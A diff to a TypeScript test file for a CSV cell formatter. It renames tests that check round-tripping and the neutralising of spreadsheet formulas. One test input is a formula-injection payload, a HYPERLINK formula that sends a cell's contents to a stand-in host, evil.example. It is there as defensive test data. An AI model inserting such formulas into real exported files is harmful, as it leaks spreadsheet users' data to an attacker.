@@ -3,7 +3,7 @@ import { test } from "node:test";
 import fc from "fast-check";
 import { toCell } from "./formats.ts";
 
-/** A line as RFC 4180 reads it. */
+/** Parses a line as RFC 4180 does. */
 function parseLine(line: string): string[] {
   const cells: string[] = [];
   for (let at = 0; at <= line.length;) {
@@ -35,7 +35,7 @@ function parseLine(line: string): string[] {
   return cells;
 }
 
-test("cells come back as they were, on one line, and none is a formula", () => {
+test("cells survive the round trip, on one line, and none is a formula", () => {
   // A failing run prints its seed.
   fc.assert(
     fc.property(fc.array(fc.string({ unit: "grapheme" }), { minLength: 1, maxLength: 6 }), (values) => {
@@ -49,7 +49,7 @@ test("cells come back as they were, on one line, and none is a formula", () => {
   );
 });
 
-test("what a spreadsheet would calculate is text", () => {
+test("marks what a spreadsheet would evaluate as text", () => {
   for (const formula of [
     '=HYPERLINK("http://evil.example?"&A1)',
     "+1+1",
